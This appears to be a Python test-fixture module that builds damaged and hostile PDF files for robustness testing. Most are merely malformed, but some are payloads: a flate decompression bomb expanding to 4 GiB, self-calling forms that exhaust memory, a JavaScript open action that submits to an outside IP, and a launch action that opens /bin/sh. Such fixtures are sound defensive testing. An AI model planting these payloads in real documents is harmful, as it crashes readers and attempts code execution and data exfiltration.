"""Builders of PDFs that are damaged, hostile or merely odd. Each returns the bytes of one file.

Open what comes from here in a process of its own: some of it is made to eat memory.
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Sequence

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

PHRASE = "Harbour lights burn low"
FIELD_VALUE = "Lantern oil for nine nights"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object around `content`."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def written(size: float = 28, phrase: str = PHRASE) -> bytes:
    """A content stream that prints the phrase."""
    return stream(b"BT /F %f Tf 60 %f Td (%s) Tj ET" % (size, 2 * size, phrase.encode()))


def raw_pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, with a sound table; the first one is the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def _document(
    *,
    catalog: bytes = b"",
    tree: bytes = b"/Kids [3 0 R] /Count 1",
    page: bytes = _PAGE,
    content: bytes | None = None,
    more: Sequence[bytes] = (),
    trailer: bytes = b"",
) -> bytes:
    """One page with the phrase, unless told otherwise; `more` are the objects from 6 on."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages %s >>" % tree,
            page,
            written() if content is None else content,
            _FONT,
            *more,
        ],
        trailer,
    )


def _sized(width: float, height: float, extra: bytes = b"") -> bytes:
    return _PAGE.replace(b"[0 0 595 842]", b"[0 0 %g %g] %s" % (width, height, extra))


def plain(phrase: str = PHRASE) -> bytes:
    return _document(content=written(phrase=phrase))


def empty() -> bytes:
    return b""


def whitespace_only() -> bytes:
    return b" \r\n\t" * 3000


def html() -> bytes:
    return b"<!DOCTYPE html>\n<html><head><title>404</title></head><body><h1>Not Found</h1></body></html>\n"


def junk_before_header() -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + plain()


def missing_eof() -> bytes:
    return plain().removesuffix(b"%%EOF\n")


def trailing_garbage() -> bytes:
    return plain() + b"\n<!-- served in 0.3 s -->" * 400


def truncated() -> bytes:
    """Cut before the catalog, which stands last."""
    out = io.BytesIO()
    canvas = Canvas(out, pageCompression=0, invariant=1)
    for _ in range(8):
        canvas.drawString(72, 700, PHRASE)
        canvas.showPage()
    canvas.save()
    whole = out.getvalue()
    return whole[: whole.index(b"/Type /Catalog") - 200]


def broken_xref() -> bytes:
    """Every offset is off, and so is the pointer to the table; the objects are whole."""
    whole = plain()
    start = whole.index(b"xref\n0")
    table = whole[start:].replace(b"00000 n", b"00007 n").replace(b"startxref\n", b"startxref\n9")
    return whole[:start] + table


def header_only() -> bytes:
    return b"%PDF-1.4\nnothing of use\n%%EOF\n"


def _encrypted(user: str, owner: str, *, may_copy: bool) -> bytes:
    out = io.BytesIO()
    permission = int(may_copy)
    lock = StandardEncryption(user, owner, canCopy=permission, canModify=permission, strength=128)
    canvas = Canvas(out, invariant=1, encrypt=lock)
    canvas.setFont("Helvetica", 28)
    canvas.drawString(60, 700, PHRASE)
    canvas.save()
    return out.getvalue()


def user_password() -> bytes:
    return _encrypted("lantern", "keeper", may_copy=True)


def owner_password() -> bytes:
    return _encrypted("", "keeper", may_copy=False)


def unknown_handler() -> bytes:
    lock = b"<< /Filter /Harbour.Lock /V 4 /Length 128 >>"
    return _document(more=[lock], trailer=b"/Encrypt 6 0 R /ID [<00> <00>]")


def zero_pages() -> bytes:
    return _document(tree=b"/Kids [] /Count 0")


def page_tree_loop() -> bytes:
    """The tree is its own second child."""
    return _document(tree=b"/Kids [3 0 R 2 0 R] /Count 2")


def count_lies() -> bytes:
    return _document(tree=b"/Kids [3 0 R] /Count 1000000")


def deep_page_tree() -> bytes:
    """The only page lies below 3,000 inner nodes."""
    depth = 3000
    nodes = [
        b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (7 + level if level < depth - 1 else 3)
        for level in range(depth)
    ]
    return _document(tree=b"/Kids [6 0 R] /Count 1", more=nodes)


def deep_content() -> bytes:
    """Arrays within arrays in a page's content, before the text."""
    return _document(
        content=stream(b"[" * 100_000 + b"]" * 100_000 + b" BT /F 28 Tf 60 60 Td (" + PHRASE.encode() + b") Tj ET")
    )


def huge_page() -> bytes:
    """200 inches a side, the most that readers promise."""
    return _document(page=_sized(14400, 14400), content=written(900))


def zero_page() -> bytes:
    """What is visible of the page lies outside of it, so that nothing is left."""
    return _document(page=_sized(595, 842, b"/CropBox [2000 2000 2100 2100]"))


def tiny_page() -> bytes:
    """Three points a side, and nothing on it."""
    return _document(page=_sized(3, 3), content=stream(b""))


def _form_calling_itself(times: int) -> bytes:
    page = _PAGE.replace(b"/Resources <<", b"/Resources << /XObject << /X 6 0 R >>")
    resources = b"/Resources << /XObject << /X 6 0 R >> >>"
    form = stream(b"/X Do " * times, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + resources)
    text = b"BT /F 28 Tf 60 60 Td (" + PHRASE.encode() + b") Tj ET /X Do"
    return _document(page=page, content=stream(text), more=[form])


def self_calling_form() -> bytes:
    """A form that draws itself, after the text."""
    return _form_calling_itself(1)


def exploding_form() -> bytes:
    """A form that draws itself twice: PDFium's depth limit alone leaves it to run out of memory."""
    return _form_calling_itself(2)


def zeros_deflated(size: int) -> bytes:
    """`size` zero bytes (whole MiB) as a zlib stream, made without compressing them all."""
    block = bytes(1 << 20)
    packer = zlib.compressobj(9)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    count = size >> 20
    # The checksum of zero bytes: the low half stays 1, the high half counts them.
    checksum = (size % 65521) << 16 | 1
    return first + middle * (count - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")


def flate_bomb() -> bytes:
    """Two pages: the first one's content unpacks twice, to 4 GiB of nothing; the second one is plain."""
    bomb = stream(zlib.compress(zeros_deflated(4 << 30), 9), b"/Filter [/FlateDecode /FlateDecode]")
    page = _PAGE.replace(b"4 0 R", b"6 0 R", 1)
    return _document(tree=b"/Kids [7 0 R 3 0 R] /Count 2", more=[bomb, page])


def one_page_bomb() -> bytes:
    """The same with nothing beside it: a few kilobytes, one page, 4 GiB."""
    bomb = stream(zlib.compress(zeros_deflated(4 << 30), 9), b"/Filter [/FlateDecode /FlateDecode]")
    return _document(page=_PAGE.replace(b"4 0 R", b"6 0 R", 1), more=[bomb])


def javascript() -> bytes:
    action = b"/OpenAction << /S /JavaScript /JS (app.alert\\('boo'\\); this.submitForm\\('http://192.0.2.1/'\\);) >>"
    return _document(catalog=action)


def launch_action() -> bytes:
    return _document(catalog=b"/OpenAction << /S /Launch /F (/bin/sh) /NewWindow true >>")


def filled_form() -> bytes:
    """The only text is the value of a field; no appearance was stored for it."""
    field = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (stores) /V (" + FIELD_VALUE.encode() + b") /F 4 "
        b"/Rect [60 600 540 650] /DA (/F 24 Tf 0 g) /P 3 0 R >>"
    )
    return _document(
        catalog=b"/AcroForm << /Fields [6 0 R] /NeedAppearances true /DR << /Font << /F 5 0 R >> >> /DA (/F 24 Tf 0 g) >>",
        page=_PAGE.replace(b"/Contents", b"/Annots [6 0 R] /Contents"),
        content=stream(b""),
        more=[field],
    )


def attachment() -> bytes:
    names = b"/Names << /EmbeddedFiles << /Names [(notes.txt) 6 0 R] >> >>"
    file = b"<< /Type /Filespec /F (notes.txt) /EF << /F 7 0 R >> >>"
    return _document(catalog=names, more=[file, stream(b"tide tables", b"/Type /EmbeddedFile")])
